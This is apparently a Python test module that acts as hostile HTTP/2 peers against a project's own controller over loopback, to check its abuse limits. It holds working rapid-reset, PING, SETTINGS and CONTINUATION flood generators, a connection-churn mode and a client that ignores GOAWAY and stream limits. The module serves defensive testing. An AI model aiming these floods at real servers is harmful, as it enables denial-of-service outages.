"""Hostile HTTP/2 peers, frame by frame: what nginx's, Go's and Envoy's abuse limits are for (issue 20).

Each attack dials the controller with a valid fleet certificate (an authenticated switch gone bad is the harder
case: a certificate buys no patience), writes its frames as fast as the socket takes them, and stops when the
controller closes the connection or when its count or time is spent. What it reports is what the controller did:
how many connections it ended with GOAWAY and which error code, how many frames it took first.

Run as a process, so its CPU is not the victim's (``tests/test_hostile_h2.py``, ``bench/run.py``)::

    python -m tests.attacks rapid-reset --port 8443 --certs certs --connections 20 --seconds 5

It prints one JSON line: an ``AttackReport``.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import dataclasses
import enum
import json
import logging
import ssl
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

import h2.config
import h2.connection
import h2.events
import hpack
from h2.errors import ErrorCodes
from h2.settings import SettingCodes
from hyperframe import frame as hf

from controller.accounts.connections import ConnectionRegistry
from dialout.h2_seam import reopen_after_reading_goaway
from dialout.text import Address
from sim_switch.dial.tls import client_ssl_context
from sim_switch.wire.frames import CLIENT_PREFACE, FrameSplitter, parse

# Frames written per socket write: large enough to flood, small enough that a GOAWAY is seen soon after.
BATCH = 200
SOURCE = "127.0.0.2"
AT_ONCE = 50  # short connections open at once
IGNORED_LIMIT = 1_000  # what a client that ignores the controller's stream limit acts as if it were
FRAME_HEADER = 9  # bytes: length (3), type, flags, stream id (4) (RFC 9113 section 4.1)
# The header block a CONTINUATION flood keeps open: this many bytes per frame, never END_HEADERS.
CONTINUATION_BYTES = 16_000


class Attack(enum.StrEnum):
    RAPID_RESET = "rapid-reset"  # HEADERS then RST_STREAM at once, stream after stream (CVE-2023-44487)
    PING_FLOOD = "ping-flood"  # PING after PING, each asking for an ACK
    SETTINGS_FLOOD = "settings-flood"  # SETTINGS after SETTINGS, each asking for an ACK
    CONTINUATION_FLOOD = "continuation-flood"  # a header block that never ends (CVE-2023-45288)
    SILENT = "silent"  # TCP connections that never start TLS, held until the controller lets go
    SHORT = "short"  # connections of one ping each (TLS, GET /ping?interval=0, close), AT_ONCE at a time
    NO_CERTIFICATE = "no-certificate"  # TLS handshakes without a client certificate, each refused, AT_ONCE at a time


@dataclass(frozen=True)
class AttackReport:
    attack: str
    connections: int  # dialled, handshakes done
    frames_sent: int
    goaway: dict[str, int]  # GOAWAY error code name -> connections that got it
    closed_by_controller: int  # connections the controller ended (GOAWAY or not) before the attack was spent
    seconds: float


def _headers(stream_id: int, path: bytes, encoder: hpack.Encoder, end_headers: bool = True) -> bytes:
    block = encoder.encode(
        [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", b"127.0.0.1"), (b":path", path)]
    )
    flags = {"END_STREAM", "END_HEADERS"} if end_headers else {"END_STREAM"}
    return hf.HeadersFrame(stream_id, data=block, flags=flags).serialize()


def _frames(attack: Attack, encoder: hpack.Encoder) -> Iterator[bytes]:
    """The attack's frames, without end."""
    if attack is Attack.RAPID_RESET:
        stream_id = 1
        while True:
            yield _headers(stream_id, b"/ping?interval=5", encoder)
            yield hf.RstStreamFrame(stream_id, error_code=ErrorCodes.CANCEL).serialize()
            stream_id += 2
    elif attack is Attack.PING_FLOOD:
        while True:
            yield hf.PingFrame(0, opaque_data=b"\x00" * 8).serialize()
    elif attack is Attack.SETTINGS_FLOOD:
        while True:
            yield hf.SettingsFrame(0, settings={hf.SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize()
    else:
        yield _headers(1, b"/ping?interval=0", encoder, end_headers=False)
        filler = b"\x00" * CONTINUATION_BYTES
        while True:
            yield hf.ContinuationFrame(1, data=filler).serialize()


@dataclass(frozen=True)
class Plan:
    kind: Attack
    connections: int
    frames_per_connection: int
    seconds: float
    source: str = SOURCE  # the attacker's address: a loopback one of its own, so a per-address limit can tell


@dataclass
class _Tally:
    frames_sent: int = 0
    goaway: Counter[str] = dataclasses.field(default_factory=Counter)
    closed_by_controller: int = 0
    connections: int = 0


async def _silent_connection(plan: Plan, port: int, deadline: float, tally: _Tally) -> None:
    """Connect, say nothing, and see whether the controller closes it (a reset at accept, or its handshake
    budget run out) before the deadline."""
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(plan.source, 0))
    except ConnectionResetError:  # reset at accept, before asyncio saw the connect complete
        tally.connections += 1
        tally.closed_by_controller += 1
        return
    except OSError:
        return  # not dialled
    tally.connections += 1
    try:
        async with asyncio.timeout(max(0.0, deadline - time.monotonic())):
            await reader.read(1)
        tally.closed_by_controller += 1
    except ConnectionError:
        tally.closed_by_controller += 1
    except TimeoutError:
        pass
    writer.transport.abort()


async def _short_connection(plan: Plan, port: int, context: ssl.SSLContext, tally: _Tally) -> None:
    """One ping on a connection of its own, closed once answered."""
    peer = await RawH2Client.connect(port, context, plan.source)
    tally.connections += 1
    try:
        await peer.answer(peer.request("/ping?interval=0"))
    except ConnectionError:
        tally.closed_by_controller += 1
    await peer.close()


async def _refused_connection(plan: Plan, port: int, context: ssl.SSLContext, tally: _Tally) -> None:
    """A handshake with no client certificate: refused, with its alert (read after the handshake under TLS 1.3)."""
    try:
        reader, writer = await asyncio.open_connection(
            "127.0.0.1", port, ssl=context, server_hostname="localhost", local_addr=(plan.source, 0)
        )
    except (ConnectionError, ssl.SSLError):
        tally.connections += 1
        tally.closed_by_controller += 1
        return
    tally.connections += 1
    try:
        await reader.read(1)
        tally.closed_by_controller += 1
    except (ConnectionError, ssl.SSLError):
        tally.closed_by_controller += 1
    writer.transport.abort()


async def _one_connection(plan: Plan, port: int, context: ssl.SSLContext, deadline: float, tally: _Tally) -> None:
    if plan.kind is Attack.SILENT:
        await _silent_connection(plan, port, deadline, tally)
        return
    reader, writer = await asyncio.open_connection(
        "127.0.0.1", port, ssl=context, server_hostname="localhost", local_addr=(plan.source, 0)
    )
    tally.connections += 1
    closed = asyncio.Event()

    async def read() -> None:
        splitter = FrameSplitter()
        try:
            while data := await reader.read(65_536):
                for raw in splitter.feed(data):
                    frame = parse(raw)
                    if isinstance(frame, hf.GoAwayFrame):
                        tally.goaway[ErrorCodes(frame.error_code).name] += 1
                        closed.set()  # the controller is done with this connection: the attack on it is over
        except (ConnectionError, ssl.SSLError):
            pass
        closed.set()

    reading = asyncio.create_task(read())
    encoder = hpack.Encoder()
    frames = _frames(plan.kind, encoder)
    writer.write(CLIENT_PREFACE + hf.SettingsFrame(0).serialize())
    sent = 0
    try:
        while sent < plan.frames_per_connection and time.monotonic() < deadline and not closed.is_set():
            batch = [next(frames) for _ in range(min(BATCH, plan.frames_per_connection - sent))]
            writer.write(b"".join(batch))
            sent += len(batch)
            await writer.drain()
            await asyncio.sleep(0)  # drain() does not yield while the socket takes it all: let the reader read
    except (ConnectionError, ssl.SSLError):
        pass
    tally.frames_sent += sent
    with contextlib.suppress(TimeoutError):  # the controller's answer to what it was sent: a GOAWAY, a close
        await asyncio.wait_for(closed.wait(), max(0.0, deadline - time.monotonic()))
    if closed.is_set():
        tally.closed_by_controller += 1
    reading.cancel()
    writer.transport.abort()


async def attack(plan: Plan, port: int, certs: Path, switch: str) -> AttackReport:
    """``connections`` at once, each writing up to ``frames_per_connection`` frames, all of it within ``seconds``."""
    context = client_ssl_context(certs, switch)
    context.set_alpn_protocols(["h2"])
    started = time.monotonic()
    tally = _Tally()
    deadline = started + plan.seconds
    if plan.kind in (Attack.SHORT, Attack.NO_CERTIFICATE):
        turns = asyncio.Semaphore(AT_ONCE)
        anonymous = ssl.create_default_context(cafile=certs / "ca.pem")  # trusts the controller, presents nothing

        async def in_turn() -> None:
            async with turns:
                if time.monotonic() >= deadline:
                    return
                if plan.kind is Attack.SHORT:
                    await _short_connection(plan, port, context, tally)
                else:
                    await _refused_connection(plan, port, anonymous, tally)

        await asyncio.gather(*(in_turn() for _ in range(plan.connections)))
    else:
        await asyncio.gather(*(_one_connection(plan, port, context, deadline, tally) for _ in range(plan.connections)))
    return AttackReport(
        attack=plan.kind.value,
        connections=tally.connections,
        frames_sent=tally.frames_sent,
        goaway=dict(tally.goaway),
        closed_by_controller=tally.closed_by_controller,
        seconds=round(time.monotonic() - started, 3),
    )


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m tests.attacks", description=__doc__.split("\n")[0])
    parser.add_argument("attack", choices=[kind.value for kind in Attack])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--certs", type=Path, required=True, help="dialout's certs_dir")
    parser.add_argument("--switch", default="switch-1", help="whose certificate to present")
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--frames", type=int, default=100_000, help="at most this many frames per connection")
    parser.add_argument("--seconds", type=float, default=5.0, help="the whole attack stops by then")
    parser.add_argument("--source", default=SOURCE, help="the loopback address to dial from")
    args = parser.parse_args(argv)
    # asyncio warns of every write to a socket the controller has closed; the report says what was closed.
    logging.getLogger("asyncio").setLevel(logging.ERROR)
    plan = Plan(Attack(args.attack), args.connections, args.frames, args.seconds, args.source)
    report = asyncio.run(attack(plan, args.port, args.certs, args.switch))
    print(json.dumps(dataclasses.asdict(report)), flush=True)
    return 0


class RawH2Client:
    """An h2 client on a TLS socket, frame by frame, for the tests that need a peer to send what a well-behaved
    client library would not when it would not (reset a stream it just opened, PING between two requests)."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader = reader
        self._writer = writer
        self._h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
        self._events: list[h2.events.Event] = []
        self._unread = bytearray()  # read, not yet a whole frame (``_frame_by_frame``)

    @classmethod
    async def connect(
        cls, port: int, context: ssl.SSLContext, source: str | None = None, alpn: Sequence[str] = ("h2",)
    ) -> RawH2Client:
        context.set_alpn_protocols(list(alpn))
        reader, writer = await asyncio.open_connection(
            "127.0.0.1", port, ssl=context, server_hostname="localhost", local_addr=(source, 0) if source else None
        )
        return cls.over(reader, writer)

    @classmethod
    def over(cls, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> RawH2Client:
        """On a connection already made (its TLS already started): the client's preface and SETTINGS sent."""
        client = cls(reader, writer)
        client._h2.initiate_connection()
        client._flush()
        return client

    def close_window(self) -> None:
        """SETTINGS_INITIAL_WINDOW_SIZE 0 from now on: the controller may send headers, and no response body (a
        client that stopped reading, as far as HTTP/2's flow control goes)."""
        self._h2.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 0})
        self._flush()

    def open_window(self) -> None:
        """SETTINGS_INITIAL_WINDOW_SIZE back to HTTP/2's default: the answers held by ``close_window`` may come."""
        self._h2.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 65_535})
        self._flush()

    def alpn(self) -> str | None:
        ssl_object = self._writer.get_extra_info("ssl_object")
        return None if ssl_object is None else ssl_object.selected_alpn_protocol()

    def peer_certificate(self) -> bytes:
        """The controller's certificate, DER."""
        return bytes(self._writer.get_extra_info("ssl_object").getpeercert(binary_form=True))

    async def settled(self) -> None:
        """Until the controller's SETTINGS have come."""
        await self._until(lambda e: isinstance(e, h2.events.RemoteSettingsChanged))

    def request(self, path: str) -> int:
        stream_id: int = self._h2.get_next_available_stream_id()
        self._h2.send_headers(stream_id, self._headers(path), end_stream=True)
        self._flush()
        return stream_id

    def requests(self, paths: Sequence[str]) -> list[int]:
        """A request for each of ``paths``, all in one write: read together at the other end."""
        stream_ids = []
        for path in paths:
            stream_ids.append(self._h2.get_next_available_stream_id())
            self._h2.send_headers(stream_ids[-1], self._headers(path), end_stream=True)
        self._flush()
        return stream_ids

    @staticmethod
    def _headers(path: str) -> list[tuple[str, str]]:
        return [(":method", "GET"), (":scheme", "https"), (":authority", "127.0.0.1"), (":path", path)]

    def reset(self, stream_id: int) -> None:
        """RST_STREAM CANCEL on ``stream_id``: the client no longer wants its answer."""
        self._h2.reset_stream(stream_id, ErrorCodes.CANCEL)
        self._flush()

    def request_and_reset(self, path: str, count: int) -> None:
        """``count`` requests, each reset right after its HEADERS, all in one write."""
        for _ in range(count):
            stream_id = self._h2.get_next_available_stream_id()
            self._h2.send_headers(stream_id, self._headers(path), end_stream=True)
            self._h2.reset_stream(stream_id, ErrorCodes.CANCEL)
        self._flush()

    async def ping(self, opaque: bytes) -> None:
        """A PING, and its ACK: the controller has read everything sent before it."""
        self._h2.ping(opaque)
        self._flush()
        await self._until(lambda e: isinstance(e, h2.events.PingAckReceived) and e.ping_data == opaque)

    async def answer(self, stream_id: int) -> int:
        """The status of the response on ``stream_id``."""
        event = await self._until(lambda e: isinstance(e, h2.events.ResponseReceived) and e.stream_id == stream_id)
        assert isinstance(event, h2.events.ResponseReceived)
        return int(dict(event.headers)[b":status"])

    async def answer_frames(self, stream_id: int) -> list[h2.events.Event]:
        """The events of the response on ``stream_id``, up to its end (a DATA frame that ends it gives a
        ``DataReceived`` whose ``stream_ended`` is set)."""

        def on_stream(event: h2.events.Event) -> bool:
            return getattr(event, "stream_id", None) == stream_id

        frames = [await self._until(on_stream)]
        while not isinstance(frames[-1], h2.events.StreamEnded):
            frames.append(await self._until(on_stream))
        return frames

    async def keep_reading(
        self,
        *,
        ignore_goaway: bool = False,
        ignore_limits: bool = False,
        on_event: Callable[[h2.events.Event], None] | None = None,
    ) -> None:
        """Read and answer what the controller sends (SETTINGS, PING, responses) until it closes, each event to
        ``on_event``. The flags make the bugs a client may have: going on after a GOAWAY (h2 would refuse: its
        state machine is reopened), and opening streams beyond the controller's SETTINGS_MAX_CONCURRENT_STREAMS (h2
        would hold to it: the limit it keeps for the peer is put back)."""
        with contextlib.suppress(ConnectionError, ssl.SSLError):
            while data := await self._reader.read(65_536):
                for event in self._frame_by_frame(data) if ignore_goaway else self._h2.receive_data(data):
                    if on_event is not None:
                        on_event(event)
                if ignore_limits and self._h2.remote_settings.max_concurrent_streams != IGNORED_LIMIT:
                    self._h2.remote_settings[SettingCodes.MAX_CONCURRENT_STREAMS] = IGNORED_LIMIT
                    self._h2.remote_settings.acknowledge()  # h2 applies a peer's setting once acknowledged
                self._flush()

    def _frame_by_frame(self, data: bytes) -> list[h2.events.Event]:
        """h2 closes its state machine on a GOAWAY, and then refuses every frame after it, a PING included (which a
        controller may send behind it, as Go's does): one that goes on after a GOAWAY reads one frame at a time and
        opens the state machine again after each."""
        self._unread += data
        events: list[h2.events.Event] = []
        while len(self._unread) >= FRAME_HEADER and len(self._unread) >= FRAME_HEADER + self._next_length():
            size = FRAME_HEADER + self._next_length()
            frame, self._unread = self._unread[:size], self._unread[size:]
            events += self._h2.receive_data(bytes(frame))
            reopen_after_reading_goaway(self._h2)
        return events

    def _next_length(self) -> int:
        return int.from_bytes(self._unread[:3], "big")

    async def closed(self) -> None:
        """Until the controller closes the connection (what it sends before that is read and dropped)."""
        with contextlib.suppress(ConnectionError, ssl.SSLError):
            while await self._reader.read(65_536):
                pass

    async def close(self) -> None:
        self._writer.close()
        with contextlib.suppress(ConnectionError, ssl.SSLError):
            await self._writer.wait_closed()

    async def _until(self, wanted: Callable[[h2.events.Event], bool]) -> h2.events.Event:
        while True:
            for index, event in enumerate(self._events):
                if wanted(event):
                    del self._events[: index + 1]
                    return event
            self._events.clear()
            data = await self._reader.read(65_536)
            if not data:
                raise ConnectionError("the controller closed the connection")
            self._events += self._h2.receive_data(data)
            self._flush()

    def _flush(self) -> None:
        self._writer.write(self._h2.data_to_send())


def fill_history(registry: ConnectionRegistry, connections: int) -> None:
    """``connections`` closed connections of a fleet of 1,000 switches, each with a request: a full history, as
    a busy controller's is, to make ``/diagnosis`` do all its work."""
    start = time.monotonic() - 3_600
    for n in range(connections):
        record = registry.open(Address("127.0.0.3", 10_000 + n % 50_000), f"fleet-{n % 1_000:04d}", "h2", "TLSv1.3", {})
        at = start + n * 0.001
        record.hello_at, record.opened, record.closed = at, at + 0.002, at + 1.0
        span = record.begin_stream("/ping", "2")
        record.end_stream(span)
        span.started, span.ended = at + 0.003, at + 0.5


if __name__ == "__main__":
    sys.exit(main())
